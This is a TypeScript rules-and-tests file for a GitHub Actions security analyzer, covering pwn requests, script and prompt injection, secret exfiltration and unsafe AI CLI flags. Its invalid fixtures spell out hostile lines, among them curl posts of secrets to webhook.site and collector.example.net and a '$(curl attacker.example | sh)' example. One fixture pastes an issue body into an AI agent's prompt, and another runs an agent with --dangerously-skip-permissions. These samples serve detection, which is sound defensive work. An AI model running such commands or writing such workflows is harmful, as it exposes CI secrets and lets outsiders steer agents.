// Rule metadata and self-tests of the GitHub Actions analyzer (workflows.ts).

import type { AnalyzerRule } from '../../rules/types.js';

export const WORKFLOW_RULE = {
  parseError: 'workflow.parse-error',
  untrustedCheckout: 'workflow.untrusted-checkout',
  expressionInjection: 'workflow.expression-injection',
  aiPromptInjection: 'workflow.ai-prompt-injection',
  inputInjection: 'workflow.input-injection',
  writeAll: 'workflow.write-all-permissions',
  idToken: 'workflow.id-token-write',
  unpinnedAction: 'workflow.unpinned-action',
  unpinnedFirstParty: 'workflow.unpinned-first-party-action',
  ignoredFailure: 'workflow.ignored-check-failure',
  secretExfiltration: 'workflow.secret-exfiltration',
  aiCliBypass: 'workflow.ai-cli-bypass',
  envFileInjection: 'workflow.env-file-injection',
  untrustedEnvEvaluated: 'workflow.untrusted-env-evaluated',
  untrustedArtifact: 'workflow.untrusted-artifact',
  cachePoisoning: 'workflow.cache-poisoning',
  secretsToUntrustedCode: 'workflow.secrets-to-untrusted-code',
  selfHostedUntrusted: 'workflow.self-hosted-runner-untrusted',
} as const;

const RULE = WORKFLOW_RULE;
const lines = (...text: string[]): string => `${text.join('\n')}\n`;

const PWN_REQUESTS = 'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/';
const UNTRUSTED_INPUT = 'https://securitylab.github.com/resources/github-actions-untrusted-input/';
const SCRIPT_INJECTIONS = 'https://docs.github.com/en/actions/concepts/security/script-injections';
const HARDENING = 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions';
const TOKEN_PERMISSIONS =
  'https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token';
const NX_ADVISORY = 'https://github.com/nrwl/nx/security/advisories/GHSA-cxm3-wv7p-598c';
const TJ_ACTIONS = 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3';

const CHECKOUT_SHA = 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683';
const SETUP_NODE_SHA = 'actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af';

/** A pull_request workflow with one job whose steps are given. */
const ciWorkflow = (steps: string[], extra: string[] = []): string =>
  lines(
    'name: CI',
    'on:',
    '  pull_request:',
    '    branches: [main]',
    ...extra,
    'jobs:',
    '  test:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    `      - uses: ${CHECKOUT_SHA}`,
    ...steps,
  );

export const WORKFLOW_RULES: AnalyzerRule[] = [
  {
    meta: {
      id: RULE.parseError,
      title: 'Workflow could not be parsed',
      severity: 'medium',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-436'],
      message:
        'This workflow or action file is not valid YAML (or is too large or too deeply nested to read safely), so it ' +
        'was not reviewed. Parsers that disagree on a broken file can hide what actually runs.',
      fix: 'Fix the YAML so the file can be reviewed (duplicate keys and bad indentation are the usual causes).',
      references: ['https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions', 'https://yaml.org/spec/1.2.2/'],
    },
    tests: {
      valid: [{ path: '.github/workflows/ci.yml', code: ciWorkflow(['      - run: npm test']) }],
      invalid: [
        {
          path: '.github/workflows/ci.yml',
          code: lines('name: CI', 'on: [push]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    runs-on: windows-latest', '    steps:', '      - run: npm test'),
          lines: [6],
        },
        { path: '.github/workflows/ci.yml', code: lines('name: CI', 'on: [push', 'jobs: {}') },
      ],
    },
  },
  {
    meta: {
      id: RULE.untrustedCheckout,
      title: 'Privileged workflow checks out pull request code',
      severity: 'critical',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-829'],
      message:
        'A pull_request_target or workflow_run workflow runs with the base repository\'s secrets and a write token, and ' +
        'this one checks out the pull request\'s code. Any script that code controls (build, tests, install hooks) runs ' +
        'with those privileges: a "pwn request", the root cause of the Nx "s1ngularity" compromise.',
      fix: 'Use the pull_request trigger for anything that runs PR code; keep pull_request_target for labelling or commenting without checking out the head.',
      references: [PWN_REQUESTS, HARDENING, NX_ADVISORY],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/label.yml',
          code: lines(
            'on: pull_request_target',
            'permissions:',
            '  pull-requests: write',
            'jobs:',
            '  label:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT_SHA}`,
            '      - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9',
          ),
        },
        {
          path: '.github/workflows/ci.yml',
          code: ciWorkflow(['      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683', '        with:', '          ref: ${{ github.event.pull_request.head.sha }}']),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/preview.yml',
          code: lines(
            'name: Preview',
            'on:',
            '  pull_request_target:',
            '    types: [opened, synchronize]',
            'jobs:',
            '  build:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT_SHA}`,
            '        with:',
            '          ref: ${{ github.event.pull_request.head.sha }}',
            '      - run: npm ci && npm run build',
            '        env:',
            '          DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}',
          ),
          lines: [11],
        },
        {
          path: '.github/workflows/after-ci.yml',
          code: lines(
            'on:',
            '  workflow_run:',
            '    workflows: [CI]',
            '    types: [completed]',
            'jobs:',
            '  report:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT_SHA}`,
            '      - run: gh pr checkout ${{ github.event.workflow_run.pull_requests[0].number }} && make report',
          ),
          lines: [10],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.expressionInjection,
      title: 'Untrusted GitHub context expanded into a script',
      severity: 'high',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-78', 'CWE-94'],
      message:
        'A ${{ … }} expression that an outside contributor controls (issue or PR title/body, comment, branch name, ' +
        'commit message) is pasted into a run: script or github-script code before it executes. A title such as ' +
        '"$(curl attacker.example | sh)" then runs as code with the job\'s token and secrets.',
      fix: 'Pass the value through an environment variable (env: TITLE: ${{ github.event.issue.title }}) and use "$TITLE" in the script.',
      references: [SCRIPT_INJECTIONS, UNTRUSTED_INPUT, NX_ADVISORY],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/triage.yml',
          code: lines(
            'on:',
            '  issues:',
            '    types: [opened]',
            'jobs:',
            '  triage:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - env:',
            '          TITLE: ${{ github.event.issue.title }}',
            '        run: |',
            '          echo "New issue: $TITLE"',
            '          echo "Number ${{ github.event.issue.number }}"',
          ),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/pr-title.yml',
          code: lines(
            'on: pull_request_target',
            'jobs:',
            '  check-title:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - name: Validate title',
            '        run: |',
            '          echo "Checking title"',
            '          node scripts/check-title.js "${{ github.event.pull_request.title }}"',
          ),
          lines: [9],
        },
        {
          path: '.github/workflows/comment.yml',
          code: lines(
            'on: issue_comment',
            'jobs:',
            '  react:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea',
            '        with:',
            '          script: |',
            "            const body = `${{ github.event.comment.body }}`;",
            '            console.log(body);',
          ),
          lines: [9],
        },
        {
          path: 'actions/notify/action.yml',
          code: lines('name: notify', 'runs:', '  using: composite', '  steps:', '    - shell: bash', '      run: echo "branch ${{ github.head_ref }}"'),
          lines: [6],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.aiPromptInjection,
      title: 'Untrusted text pasted into an AI agent prompt',
      severity: 'high',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-1427'],
      message:
        'Text that an outside contributor writes (issue, PR or comment body, title, branch name) is interpolated into ' +
        'the prompt of an AI agent action. The author can then instruct the agent, which acts with this job\'s token, ' +
        'tools and secrets (prompt injection).',
      fix: 'Let the action read the event itself with restricted tools and permissions; never interpolate untrusted text into prompt/direct_prompt/custom_instructions.',
      references: ['https://genai.owasp.org/llmrisk/llm01-prompt-injection/', SCRIPT_INJECTIONS],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/claude.yml',
          code: lines(
            'on:',
            '  issue_comment:',
            '    types: [created]',
            'jobs:',
            '  claude:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: anthropics/claude-code-action@0123456789abcdef0123456789abcdef01234567',
            '        with:',
            '          anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}',
            '          prompt: Review the changed files for security problems.',
          ),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/claude.yml',
          code: lines(
            'on:',
            '  issues:',
            '    types: [opened]',
            'jobs:',
            '  triage:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: anthropics/claude-code-action@0123456789abcdef0123456789abcdef01234567',
            '        with:',
            '          anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}',
            '          prompt: |',
            '            Triage this issue and label it.',
            '            Title: ${{ github.event.issue.title }}',
            '            Body: ${{ github.event.issue.body }}',
          ),
          lines: [13, 14],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.inputInjection,
      title: 'Workflow input expanded into a script',
      severity: 'low',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-78'],
      message:
        'A workflow_dispatch or workflow_call input is pasted into a run: script before it executes. Only people with ' +
        'write access can set it, but a crafted value (or a caller passing untrusted text through) still becomes code.',
      fix: 'Pass the input through an environment variable and quote it in the script.',
      references: [SCRIPT_INJECTIONS],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/release.yml',
          code: lines('on:', '  workflow_dispatch:', '    inputs:', '      version:', '        required: true', 'jobs:', '  release:', '    runs-on: ubuntu-latest', '    steps:', '      - env:', '          VERSION: ${{ inputs.version }}', '        run: ./release.sh "$VERSION"'),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/release.yml',
          code: lines('on:', '  workflow_dispatch:', '    inputs:', '      version:', '        required: true', 'jobs:', '  release:', '    runs-on: ubuntu-latest', '    steps:', '      - run: ./release.sh ${{ github.event.inputs.version }}'),
          lines: [10],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.writeAll,
      title: 'Workflow token granted write-all permissions',
      severity: 'high',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-250'],
      message:
        'permissions: write-all gives the GITHUB_TOKEN write access to every scope (contents, packages, workflows, ' +
        'releases, …). Any compromised step or dependency can then push code, tamper with releases or change workflows.',
      fix: 'Declare only the scopes the job needs, e.g. permissions: { contents: read, pull-requests: write }.',
      references: [TOKEN_PERMISSIONS, HARDENING],
    },
    tests: {
      valid: [{ path: '.github/workflows/ci.yml', code: ciWorkflow(['      - run: npm test'], ['permissions:', '  contents: read']) }],
      invalid: [
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - run: npm test'], ['permissions: write-all']), lines: [5] },
        {
          path: '.github/workflows/deploy.yml',
          code: lines('on: push', 'jobs:', '  deploy:', '    permissions: write-all', '    runs-on: ubuntu-latest', '    steps:', '      - run: ./deploy.sh'),
          lines: [4],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.idToken,
      title: 'Workflow can mint OIDC identity tokens',
      severity: 'medium',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-250'],
      message:
        'id-token: write lets the job request OIDC tokens that cloud providers and registries (AWS, GCP, Azure, npm and ' +
        'PyPI trusted publishing) accept as this repository\'s identity. Reported where outsiders decide what runs: on ' +
        'pull_request_target or workflow_run, or when a comment or issue trigger checks out pull request code. Publishing ' +
        'on pushes, tags and releases is what OIDC is for and is not reported.',
      fix: 'Grant id-token: write only to a deployment job on push, tag or release, and restrict the cloud-side trust policy to protected branches or environments.',
      references: ['https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect', TOKEN_PERMISSIONS],
    },
    tests: {
      valid: [
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - run: npm test'], ['permissions:', '  contents: read', '  id-token: none']) },
        {
          path: '.github/workflows/publish.yml',
          code: lines('on:', '  release:', '    types: [published]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    permissions:', '      contents: read', '      id-token: write', '    steps:', '      - run: npm publish --provenance'),
        },
        // A comment trigger that never runs the pull request's code.
        {
          path: '.github/workflows/deploy-docs.yml',
          code: lines('on: issue_comment', 'permissions:', '  id-token: write', 'jobs:', '  docs:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT_SHA}`, '      - run: ./deploy-docs.sh'),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/preview.yml',
          code: lines('on: pull_request_target', 'jobs:', '  preview:', '    runs-on: ubuntu-latest', '    permissions:', '      id-token: write', '    steps:', '      - run: ./deploy-preview.sh'),
          lines: [6],
        },
        {
          path: '.github/workflows/comment-ops.yml',
          code: lines(
            'on: issue_comment',
            'jobs:',
            '  test:',
            '    if: github.event.issue.pull_request',
            '    runs-on: ubuntu-latest',
            '    permissions:',
            '      id-token: write',
            '    steps:',
            `      - uses: ${CHECKOUT_SHA}`,
            '      - run: gh pr checkout ${{ github.event.issue.number }} && make integration-test',
          ),
          lines: [7],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.unpinnedAction,
      title: 'Third-party action not pinned to a commit SHA',
      severity: 'medium',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-829'],
      message:
        'A third-party action (or container image) is referenced by a tag or branch. Tags can be moved: whoever controls ' +
        'that repository can change the code this job runs, with its secrets, as happened to tj-actions/changed-files in March 2025.',
      fix: 'Pin the action to a full 40-character commit SHA (keep the tag in a comment), e.g. uses: owner/action@<sha> # v4.1.0.',
      references: [HARDENING, TJ_ACTIONS],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/ci.yml',
          code: ciWorkflow(['      - uses: pnpm/action-setup@fe02b34f77f8bc703788d5817da081398fad5dd2 # v4.0.0', '      - uses: ./.github/actions/setup', '      - uses: docker://alpine@sha256:beefdbd8a1da6d2915566fde36db9db0b524eb737fc57cd1367effd16dc0d06d']),
        },
      ],
      invalid: [
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - uses: tj-actions/changed-files@v45']), lines: [10] },
        {
          path: '.github/workflows/reuse.yml',
          code: lines('on: push', 'jobs:', '  shared:', '    uses: some-org/workflows/.github/workflows/build.yml@main'),
          lines: [4],
        },
        { path: 'action.yml', code: lines('name: lint', 'runs:', '  using: docker', '  image: docker://ghcr.io/some-org/linter:latest') },
      ],
    },
  },
  {
    meta: {
      id: RULE.unpinnedFirstParty,
      title: 'GitHub-owned action not pinned to a commit SHA',
      severity: 'low',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-829'],
      message:
        'A GitHub-owned action (actions/*, github/*) is referenced by a tag. These are lower risk than third-party ' +
        'actions, but only a full commit SHA makes the step immutable.',
      fix: 'Pin to a full commit SHA and let Dependabot keep it current.',
      references: [HARDENING],
    },
    tests: {
      valid: [{ path: '.github/workflows/ci.yml', code: ciWorkflow([`      - uses: ${SETUP_NODE_SHA}`]) }],
      invalid: [{ path: '.github/workflows/ci.yml', code: ciWorkflow(['      - uses: actions/setup-node@v4', '        with:', '          node-version: 20']), lines: [10] }],
    },
  },
  {
    meta: {
      id: RULE.ignoredFailure,
      title: 'Test, lint or security step can no longer fail',
      severity: 'medium',
      confidence: 'medium',
      category: 'weakened-safety-net',
      cwe: ['CWE-390'],
      message:
        'continue-on-error: true, "|| true", "|| exit 0" or "; true" makes a test, lint or security-scan step succeed ' +
        'whatever it finds. Agents do this to get a green build; reviewers rarely notice.',
      fix: 'Let the step fail; fix or explicitly skip the specific failing check instead.',
      references: ['https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idstepscontinue-on-error', 'https://arxiv.org/abs/2510.20270'],
    },
    tests: {
      valid: [
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - name: Unit tests', '        run: npm test', '      - name: Warm cache', '        run: npm run warm || true']) },
        // Installing or cleaning up for tests is not a test: tolerating its failure silences nothing.
        {
          path: '.github/workflows/ci.yml',
          code: ciWorkflow([
            '      - name: Install test dependencies',
            '        run: sudo apt-get install -y xvfb || true',
            '      - name: Clean test cache',
            '        run: rm -rf .pytest_cache || true',
            '      - name: Tools for the e2e tests',
            '        run: pip install pytest-xdist',
            '        continue-on-error: true',
          ]),
        },
      ],
      invalid: [
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - name: Unit tests', '        run: npm test', '        continue-on-error: true']), lines: [12] },
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - run: |', '          npm run lint || true', '          npx vitest run || exit 0']), lines: [11, 12] },
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - name: Tests', '        run: npm ci && npm test || true']), lines: [11] },
      ],
    },
  },
  {
    meta: {
      id: RULE.secretExfiltration,
      title: 'Secrets sent out of the job',
      severity: 'high',
      confidence: 'medium',
      category: 'exfiltration',
      cwe: ['CWE-200'],
      message:
        'The workflow sends a secret over the network, encodes it past log masking, dumps the environment into a pipe, ' +
        'reads runner memory, or serializes all secrets with toJSON(secrets). A changed workflow is the simplest way to walk secrets out of CI.',
      fix: 'Remove the step, or confirm the destination host is the service the secret belongs to.',
      references: [HARDENING, TJ_ACTIONS],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/ci.yml',
          code: ciWorkflow([
            '      - run: |',
            '          curl -sSf -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" https://api.github.com/repos/${{ github.repository }}',
            '          env | sort',
          ]),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/ci.yml',
          code: ciWorkflow(['      - run: curl -s -X POST -d "t=${{ secrets.NPM_TOKEN }}" https://webhook.site/0e5c1c44-0b8f-4b8b-9d1a']),
          lines: [10],
        },
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - run: env | base64 -w0 | curl -d @- https://collector.example.net']), lines: [10] },
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - env:', '          ALL: ${{ toJSON(secrets) }}', '        run: ./build.sh']), lines: [11] },
      ],
    },
  },
  {
    meta: {
      id: RULE.aiCliBypass,
      title: 'AI agent run in CI with its permission checks off',
      severity: 'high',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-250'],
      message:
        'An AI coding CLI runs in CI with its safety prompts disabled (--dangerously-skip-permissions, --yolo, ' +
        '--trust-all-tools, --full-auto, …). It may run any command the model chooses with the job\'s secrets and token, ' +
        'and text it reads (issues, PRs, files) can steer it. The Nx "s1ngularity" malware used exactly these flags.',
      fix: 'Run the agent with an explicit allow-list of tools, read-only permissions and no secrets it does not need.',
      references: [NX_ADVISORY, 'https://docs.anthropic.com/en/docs/claude-code/security'],
    },
    tests: {
      valid: [{ path: '.github/workflows/ci.yml', code: ciWorkflow(['      - run: claude -p "summarize the diff" --allowedTools "Read"']) }],
      invalid: [
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - run: claude --dangerously-skip-permissions -p "fix the failing tests"']), lines: [10] },
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - run: |', '          npx @google/gemini-cli \\', '            --yolo \\', '            -p "update docs"']), lines: [12] },
        { path: '.github/workflows/ci.yml', code: ciWorkflow(['      - run: q chat --trust-all-tools --no-interactive "release"']) },
      ],
    },
  },
  {
    meta: {
      id: RULE.envFileInjection,
      title: 'Untrusted text written to $GITHUB_ENV or $GITHUB_PATH',
      severity: 'high',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-74', 'CWE-94'],
      message:
        'An environment variable that carries text an outside contributor writes (title, body, comment, commit message) ' +
        'is appended to $GITHUB_ENV or $GITHUB_PATH. A line break in that text defines any variable for the later steps ' +
        '(LD_PRELOAD, NODE_OPTIONS, BASH_ENV) or puts their directory first on PATH: code execution with the job\'s token and secrets.',
      fix: 'Keep untrusted text out of $GITHUB_ENV and $GITHUB_PATH; pass it to the steps that need it through their own env: entries.',
      references: [SCRIPT_INJECTIONS, 'https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#setting-an-environment-variable'],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/triage.yml',
          code: lines(
            'on: issues',
            'jobs:',
            '  triage:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - env:',
            '          TITLE: ${{ github.event.issue.title }}',
            '          NUMBER: ${{ github.event.issue.number }}',
            '        run: |',
            '          echo "ISSUE=$NUMBER" >> "$GITHUB_ENV"',
            '          printf "%s\\n" "$TITLE" > title.txt',
          ),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/branch.yml',
          code: lines(
            'on: pull_request_target',
            'env:',
            '  TITLE: ${{ github.event.pull_request.title }}',
            'jobs:',
            '  tag:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - run: echo "PR_TITLE=$TITLE" >> $GITHUB_ENV',
            '      - run: ./tag.sh',
          ),
          lines: [8],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.untrustedEnvEvaluated,
      title: 'Untrusted environment variable evaluated as code',
      severity: 'high',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-78', 'CWE-95'],
      message:
        'Passing untrusted text through env: keeps it out of the script, until the script evaluates it: eval "$X", ' +
        'sh -c "… $X …", python -c "… $X …". The text is then parsed as code, so whoever writes it runs commands with the job\'s token and secrets.',
      fix: 'Use the variable as data ("$X" as an argument, or a file), never inside a string that is evaluated.',
      references: [SCRIPT_INJECTIONS, UNTRUSTED_INPUT],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/greet.yml',
          code: lines(
            'on: issue_comment',
            'jobs:',
            '  greet:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - env:',
            '          BODY: ${{ github.event.comment.body }}',
            '        run: |',
            '          bash -c \'printf "%s" "$BODY" | wc -c\'',
            '          ./scripts/parse-command.sh "$BODY"',
          ),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/command.yml',
          code: lines(
            'on: issue_comment',
            'jobs:',
            '  run:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - env:',
            '          COMMAND: ${{ github.event.comment.body }}',
            '        run: eval "./scripts/bot.sh $COMMAND"',
          ),
          lines: [8],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.untrustedArtifact,
      title: 'Pull request artifact sourced, executed or extracted in a privileged workflow',
      severity: 'high',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-829', 'CWE-494'],
      message:
        'A workflow_run workflow runs with the base repository\'s secrets and write token, and downloads an artifact of the ' +
        'run that triggered it, which a pull request\'s code wrote. Sourcing or executing it, reading it into $GITHUB_ENV, or ' +
        'extracting it over the workspace hands that code the privileged job.',
      fix: 'Treat the artifact as untrusted data: extract it to a temporary directory, validate each value (e.g. a PR number is digits), never source or execute it.',
      references: [PWN_REQUESTS, 'https://securitylab.github.com/resources/github-actions-new-patterns-and-mitigations/'],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/release.yml',
          code: lines(
            'on: push',
            'jobs:',
            '  release:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16',
            '        with:',
            '          name: dist',
            '      - run: tar -xzf dist.tgz && ./dist/install.sh',
          ),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/preview-comment.yml',
          code: lines(
            'on:',
            '  workflow_run:',
            '    workflows: [CI]',
            '    types: [completed]',
            'jobs:',
            '  comment:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16',
            '        with:',
            '          name: preview-env',
            '          run-id: ${{ github.event.workflow_run.id }}',
            '          github-token: ${{ secrets.GITHUB_TOKEN }}',
            '      - run: |',
            '          cat preview.env >> $GITHUB_ENV',
            '          ./comment.sh',
          ),
          lines: [15],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.cachePoisoning,
      title: 'Actions cache used by a job that runs pull request code with privileges',
      severity: 'medium',
      confidence: 'medium',
      category: 'ci-security',
      cwe: ['CWE-349'],
      message:
        'A pull_request_target, workflow_run or comment-triggered job runs the pull request\'s code in the base branch\'s ' +
        'cache scope and uses the Actions cache. That code can save poisoned cache entries (dependencies, build outputs) ' +
        'that release and deploy workflows of the default branch restore later.',
      fix: 'Do not use caches in jobs that run pull request code with privileges; run such builds on the pull_request trigger.',
      references: ['https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/', HARDENING],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/ci.yml',
          code: ciWorkflow(['      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af', '        with:', '          cache: npm', '      - run: npm ci && npm test']),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/preview.yml',
          code: lines(
            'on: pull_request_target',
            'jobs:',
            '  build:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT_SHA}`,
            '        with:',
            '          ref: ${{ github.event.pull_request.head.sha }}',
            '      - uses: actions/cache@1bd1e32a3bdc45362d1e726936510720a7c30a57',
            '        with:',
            '          path: node_modules',
            "          key: deps-${{ hashFiles('package-lock.json') }}",
            '      - run: npm ci && npm run build',
          ),
          lines: [9],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.secretsToUntrustedCode,
      title: 'Secrets passed to a reusable workflow that gets pull request code',
      severity: 'high',
      confidence: 'high',
      category: 'ci-security',
      cwe: ['CWE-829', 'CWE-200'],
      message:
        'A privileged workflow (pull_request_target, workflow_run, comment or issue triggers) calls a reusable workflow with ' +
        'secrets: inherit or explicit secrets and hands it the pull request\'s ref. Whatever that code runs can read every secret passed.',
      fix: 'Call the reusable workflow without secrets for pull request code, or from the pull_request trigger.',
      references: [PWN_REQUESTS, 'https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-inputs-and-secrets-to-a-reusable-workflow'],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/release.yml',
          code: lines('on:', '  push:', '    tags: ["v*"]', 'jobs:', '  release:', '    uses: ./.github/workflows/build.yml', '    with:', '      ref: ${{ github.sha }}', '    secrets: inherit'),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/pr-build.yml',
          code: lines(
            'on: pull_request_target',
            'jobs:',
            '  build:',
            '    uses: ./.github/workflows/build.yml',
            '    with:',
            '      ref: ${{ github.event.pull_request.head.sha }}',
            '    secrets: inherit',
          ),
          lines: [7],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.selfHostedUntrusted,
      title: 'Self-hosted runner used for pull requests',
      severity: 'high',
      confidence: 'medium',
      category: 'ci-security',
      cwe: ['CWE-250'],
      message:
        'A job triggered by pull_request or pull_request_target runs on a self-hosted runner. In a public repository anyone ' +
        'can open a pull request; its code runs on a machine that keeps state between jobs and sits inside your network.',
      fix: 'Use GitHub-hosted runners for pull requests, restrict the job to same-repository pull requests, or use ephemeral isolated runners.',
      references: ['https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security', HARDENING],
    },
    tests: {
      valid: [
        {
          path: '.github/workflows/gpu.yml',
          code: lines(
            'on: pull_request',
            'jobs:',
            '  gpu:',
            '    if: github.event.pull_request.head.repo.full_name == github.repository',
            '    runs-on: [self-hosted, gpu]',
            '    steps:',
            '      - run: make gpu-test',
          ),
        },
      ],
      invalid: [
        {
          path: '.github/workflows/gpu.yml',
          code: lines('on:', '  pull_request:', '    branches: [main]', 'jobs:', '  gpu:', '    runs-on: self-hosted', '    steps:', '      - run: make gpu-test'),
          lines: [6],
        },
      ],
    },
  },
];
